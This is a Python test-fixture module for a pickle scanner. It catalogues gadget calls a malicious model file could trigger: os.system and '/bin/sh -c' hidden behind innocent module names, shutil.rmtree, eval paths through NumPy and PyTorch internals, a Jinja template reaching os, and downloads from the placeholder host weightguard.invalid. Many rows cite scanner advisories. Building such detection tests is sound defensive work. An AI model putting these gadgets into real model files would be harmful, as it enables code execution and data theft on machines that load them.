"""More of what a pickle can call (see `gadgets`): files, the network, and the libraries that a loader has."""

from __future__ import annotations

from tests.hostile.case import MARK, SHELL, SOURCE, Call, Name, stream

N, C = Name, Call

_EVAL_SOURCE = f"open({MARK!r}, 'w').close()"
_URL = "http://weightguard.invalid/x"
_INNER = stream(C(N("posix", "system"), SHELL))
_RUN = N("torch.utils.collect_env", "run")  # no name of the standard library, and runs a command
_SH = ["/bin/sh", "-c", SHELL]


def _method(name: str, *args: object) -> Call:
    return C(N("operator", "methodcaller"), name, *args)


ROWS: tuple[tuple[str, object, str, str], ...] = (
    # files and the network
    ("shutil-rmtree", C(N("shutil", "rmtree"), "nothing-here"), "", "deletes a folder"),
    ("shutil-copy", C(N("shutil", "copyfile"), "/etc/hostname", MARK), "pickle", "copies a file"),
    (
        "pathlib-write",
        C(N("pathlib", "Path.write_text"), C(N("pathlib", "PosixPath"), MARK), "x"),
        "pickle",
        "a method of a harmless class",
    ),
    ("distutils-write", C(N("distutils.file_util", "write_file"), MARK, ["x"]), "pickle", "CVE-2025-10155 and its kind"),
    ("tempfile", C(N("tempfile", "mkstemp"), "", "", "."), "pickle", "makes a file"),
    ("sqlite", C(N("sqlite3", "connect"), MARK), "pickle", "makes a file"),
    ("tarfile", C(N("tarfile", "open"), MARK, "w"), "pickle", "makes a file"),
    ("zipfile", C(N("zipfile", "ZipFile"), MARK, "w"), "pickle", "makes a file"),
    ("linecache", C(N("linecache", "getlines"), "/etc/hostname"), "", "reads a file"),
    ("socket-connect", C(N("socket", "create_connection"), ("weightguard.invalid", 80)), "pickle", "the network"),
    ("urlopen", C(N("urllib.request", "urlopen"), _URL), "pickle", "the network"),
    ("urlretrieve", C(N("urllib.request", "urlretrieve"), _URL, "x"), "pickle", "modelscan #338: fetches a file"),
    ("py2-urlopen", C(N("urllib2", "urlopen"), _URL), "pickle", "Python 2's name, mapped by the unpickler"),
    (
        "http-client",
        C(_method("connect"), C(N("http.client", "HTTPConnection"), "weightguard.invalid")),
        "pickle",
        "the network",
    ),
    ("ssl-certificate", C(N("ssl", "get_server_certificate"), ("weightguard.invalid", 443)), "pickle", "data in a host's name"),
    ("smtplib", C(N("smtplib", "SMTP"), "weightguard.invalid", 25), "pickle", "fickling GHSA-mxhj-88fx-4pcv"),
    ("ftplib", C(N("ftplib", "FTP"), "weightguard.invalid"), "pickle", "the network"),
    ("poplib", C(N("poplib", "POP3"), "weightguard.invalid"), "pickle", "the network"),
    ("telnetlib", C(N("telnetlib", "Telnet"), "weightguard.invalid"), "pickle", "the network"),
    ("nntplib", C(N("nntplib", "NNTP"), "weightguard.invalid"), "pickle", "the network"),
    ("xmlrpc", C(N("xmlrpc.client", "ServerProxy"), _URL), "", "the network"),
    ("requests", C(N("requests.api", "get"), _URL), "", "the network"),
    ("aiohttp", C(N("aiohttp.client", "ClientSession")), "", "the network"),
    # third-party libraries that a loader has
    ("numpy-runstring", C(N("numpy.testing._private.utils", "runstring"), SOURCE, {}), "pickle", "source by NumPy"),
    ("numpy-measure", C(N("numpy.testing", "measure"), SOURCE), "pickle", "source by NumPy"),
    (
        "numpy-lincoef",
        C(N("numpy.f2py.crackfortran", "getlincoef"), _EVAL_SOURCE, []),
        "pickle",
        "picklescan GHSA-r8g5-cgf2-4m4m",
    ),
    ("numpy-myeval", C(N("numpy.f2py.crackfortran", "myeval"), _EVAL_SOURCE), "pickle", "the same"),
    ("numpy-load", C(N("numpy", "load"), "nothing.npy", None, True), "", "another file"),
    (
        "numpy-memmap",
        C(N("numpy", "memmap"), MARK, "uint8", "w+", 0, (4,)),
        "pickle",
        "makes a file, by a class of a known package",
    ),
    ("numpy-savetxt", C(N("numpy", "savetxt"), MARK, [1]), "pickle", "makes a file"),
    ("torch-load", C(N("torch.serialization", "load"), "nothing.pt"), "", "another file"),
    ("torch-save", C(N("torch.serialization", "save"), 1, MARK), "pickle", "makes a file"),
    ("torch-hub", C(N("torch.hub", "load"), "weightguard-invalid/none", "x", "local"), "", "code from the network"),
    ("torch-hub-url", C(N("torch.hub", "download_url_to_file"), _URL, "x"), "pickle", "the network"),
    ("torch-jit-load", C(N("torch.jit._serialization", "load"), "nothing.pt"), "", "another file"),
    ("torch-collect-env", C(N("torch.utils.collect_env", "run"), SHELL), "pickle", "modelscan #338"),
    (
        "torch-collect-env-all",
        C(N("torch.utils.collect_env", "run_and_read_all"), N("torch.utils.collect_env", "run"), SHELL),
        "pickle",
        "picklescan GHSA-jhph-76pp-mggw",
    ),
    (
        "torch-execwrapper",
        C(N("torch.jit.unsupported_tensor_ops", "execWrapper"), SOURCE, {}, {}),
        "pickle",
        "picklescan GHSA-vr7h-p6mm-wpmh",
    ),
    (
        "torch-bottleneck",
        C(N("torch.utils.bottleneck.__main__", "run_cprofile"), SOURCE, {}),
        "pickle",
        "picklescan GHSA-4r9r-ch6f-vxmx",
    ),
    (
        "torch-autograd-prof",
        C(N("torch.utils.bottleneck.__main__", "run_autograd_prof"), SOURCE, {}),
        "pickle",
        "picklescan GHSA-4whj-rm5r-c2v8",
    ),
    ("torch-guards", C(N("torch._dynamo.guards", "GuardBuilder.get"), {}, _EVAL_SOURCE), "", "picklescan GHSA-86cj-95qr-2p4f"),
    (
        "torch-shape-env",
        C(N("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), {}, _EVAL_SOURCE, []),
        "pickle",
        "picklescan GHSA-f4x7-rfwp-v3xw",
    ),
    (
        "torch-config",
        C(N("torch.utils._config_module", "ConfigModule.load_config"), {}, _INNER),
        "pickle",
        "picklescan GHSA-vv6j-3g6g-2pvj: a pickle in a pickle",
    ),
    (
        "torch-decoder",
        C(N("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", _INNER),
        "pickle",
        "picklescan GHSA-h3qp-7fh3-f8h4: a pickle in a pickle",
    ),
    ("torch-codecache", C(N("torch._inductor.codecache", "compile_file"), "", "", _SH), "", "picklescan: a compiler's command"),
    ("torch-load-inline", C(N("torch.utils.cpp_extension", "load_inline"), "x", "int x;"), "", "compiles and loads"),
    (
        "torch-ops-library",
        C(N("torch", "ops.load_library"), "libc.so.6"),
        "pickle",
        "a library: its code runs when it is loaded",
    ),
    (
        "torch-fx-source",
        C(N("torch.fx.graph_module", "_forward_from_src"), f"def forward(self): pass\n{SOURCE}", {}),
        "",
        "source of a graph",
    ),
    (
        "torch-fx-reduce",
        C(N("torch.fx.graph_module", "reduce_graph_module"), {"_code": f"def forward(self): pass\n{SOURCE}"}, ""),
        "pickle",
        "how graphs are saved, and it runs what they hold",
    ),
    (
        "torch-load-bytes",
        C(N("torch.storage", "_load_from_bytes"), _INNER),
        "",
        "CVE-2025-32434's neighbour: a file in a storage",
    ),
    (
        "torch-distributed-object",
        C(N("torch.distributed.distributed_c10d", "_tensor_to_object"), 1, 2),
        "",
        "unpickles a tensor",
    ),
    (
        "torch-mp-rebuild",
        C(
            N("torch.multiprocessing.reductions", "rebuild_storage_filename"),
            N("torch.storage", "UntypedStorage"),
            b"x",
            b"y",
            1,
        ),
        "",
        "opens shared memory",
    ),
    (
        "torch-from-file",
        C(N("torch", "UntypedStorage.from_file"), MARK, True, 8),
        "pickle",
        "a method of a harmless class makes a file",
    ),
    ("torch-typename-hop", C(N("torch.serialization", "os.system"), SHELL), "pickle", "a module behind an innocent one"),
    ("pathlib-hop", C(N("pathlib", "os.system"), SHELL), "pickle", "fickling GHSA-5j3x-jp52-966f"),
    ("collections-hop", C(N("collections", "_sys.exit"), 0), "", "a module behind an innocent one"),
    ("numpy-hop", C(N("numpy.lib._datasource", "os.system"), SHELL), "pickle", "a module behind an innocent one"),
    (
        "nn-hop",
        C(N("torch.nn.modules.module", "torch.serialization.os.system"), SHELL),
        "pickle",
        "a module behind a package of layers",
    ),
    ("optim-hop", C(N("torch.optim.lr_scheduler", "types.FunctionType"), 1), "", "a module behind a package of optimizers"),
    ("argparse-hop", C(N("argparse", "_os.system"), SHELL), "pickle", "a module behind an innocent one"),
    ("future-hop", C(N("__future__", "all_feature_names.append"), "x"), "", "a method of an innocent list"),
    ("dunder-hop", C(N("collections", "OrderedDict.__init__.__class__"), 1), "", "attributes of attributes"),
    ("subclasses", C(N("builtins", "object.__subclasses__")), "", "every class there is"),
    (
        "transformers-hop",
        C(N("transformers.dynamic_module_utils", "get_class_in_module"), "X", "nothing.py"),
        "",
        "runs a file of Python",
    ),
    (
        "transformers-pipeline",
        C(N("transformers.pipelines", "pipeline"), "x", "weightguard-invalid/none"),
        "",
        "code from the network",
    ),
    ("sympy", C(N("sympy.core.sympify", "sympify"), _EVAL_SOURCE), "pickle", "an expression by sympy"),
    ("setuptools", C(N("setuptools._distutils.spawn", "spawn"), _SH), "", "a process by setuptools"),
    ("mp-pool", C(N("multiprocessing.pool", "ThreadPool"), 1, N("os", "system"), (SHELL,)), "pickle", "an initializer"),
    (
        "jinja",
        C(
            _method("render"),
            C(N("jinja2.environment", "Template"), "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"),
        ),
        "pickle",
        "a template that reaches os",
    ),
    (
        "generator-ctor",
        C(N("numpy.random._pickle", "__generator_ctor"), SHELL, _RUN),
        "pickle",
        "an allowed function calls its second",
    ),
    ("randomstate-ctor", C(N("numpy.random._pickle", "__randomstate_ctor"), SHELL, _RUN), "pickle", "the same"),
    (
        "bit-generator-ctor",
        C(N("numpy.random._pickle", "__bit_generator_ctor"), N("my_package", "Client")),
        "",
        "makes what it is told",
    ),
    ("h5py-file", C(N("h5py._hl.files", "File"), MARK, "w"), "pickle", "a class whose constructor makes a file"),
    ("mako", C(N("mako.template", "Template"), f"<%! {SOURCE} %>"), "pickle", "a class whose constructor runs source"),
    ("unknown-function", C(N("my_package.loading", "rebuild"), "x"), "", "a function that nobody knows"),
    ("main-function", C(N("__main__", "rebuild"), "x"), "", "a function of the loader's own program"),
)
